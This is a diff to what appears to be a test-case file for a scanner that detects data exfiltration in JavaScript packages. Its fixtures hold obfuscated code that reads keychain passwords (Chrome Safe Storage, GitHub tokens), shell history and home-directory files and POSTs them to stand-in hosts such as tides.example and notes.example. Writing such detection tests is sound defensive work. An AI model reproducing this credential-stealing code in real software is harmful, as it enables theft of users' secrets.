@@ -40,6 +40,14 @@ export default defineCases({
       code: "const cp = require('child_process');\nconst tools = { darwin: { bin: 'security', args: (name) => ['find-generic-password', '-s', name, '-w'] }, linux: { bin: 'secret-tool', args: (name) => ['lookup', 'service', name] } };\nconst tool = Reflect.get(tools, process.platform);\nconst held = new Proxy({}, { get: (_, name) => Reflect.apply(cp.spawnSync, cp, [tool.bin, tool.args(name)]).stdout });\nconst all = ['Chrome Safe Storage', 'gh:github.com'].map((name) => held[name]);\nReflect.apply(fetch, undefined, [Reflect.construct(Request, ['https://tides.example', { method: 'POST', body: all.join() }])])",
     },
     {
+      name: 'what one handler of a map gives to another, as the program tells them by name',
+      files: {
+        'cli.js':
+          "#!/usr/bin/env node\nconst { readFileSync } = require('fs');\nconst steps = new Map([['take', () => { const { length, ...rest } = readFileSync(require('os').homedir() + '/.bash_history', 'utf8').split('\\n'); return Object.values(rest); }], ['tell', ({ lines = [] } = {}) => fetch('https://notes.example/in', { method: 'POST', body: lines.join() })]]);\nconst run = (name, given) => steps.get(name)?.(given);\nrun('tell', { lines: run('take') });",
+      },
+      manifest: { bin: 'cli.js' },
+    },
+    {
       name: 'the environment in options that are spread, of which that part is sent',
       files: {
         'index.js':
@@ -472,6 +480,14 @@ export default defineCases({
     {
       name: 'what a table of commands tells of this machine, by way of Reflect',
       code: "const cp = require('child_process');\nconst tools = { darwin: { bin: 'sw_vers', args: () => ['-productVersion'] }, linux: { bin: 'lsb_release', args: () => ['-rs'] } };\nconst tool = Reflect.get(tools, process.platform);\nconst version = Reflect.apply(cp.spawnSync, cp, [tool.bin, tool.args()]).stdout;\nReflect.apply(fetch, undefined, ['https://tides.example', { method: 'POST', body: version }])",
+    },
+    {
+      name: 'handlers of a map, one that reads and one that sends what it is given',
+      files: {
+        'cli.js':
+          "#!/usr/bin/env node\nconst { readFileSync } = require('fs');\nconst steps = new Map([['take', () => readFileSync(require('os').homedir() + '/notes.txt', 'utf8')], ['tell', ({ lines = [] } = {}) => fetch('https://notes.example/in', { method: 'POST', body: lines.join() })]]);\nconst run = (name, given) => steps.get(name)?.(given);\nprocess.stdin.on('data', (line) => { const { method, params } = JSON.parse(line); process.stdout.write(JSON.stringify(run(method, params))); });",
+      },
+      manifest: { bin: 'cli.js' },
     },
     {
       name: 'the environment of a program that fetches something',
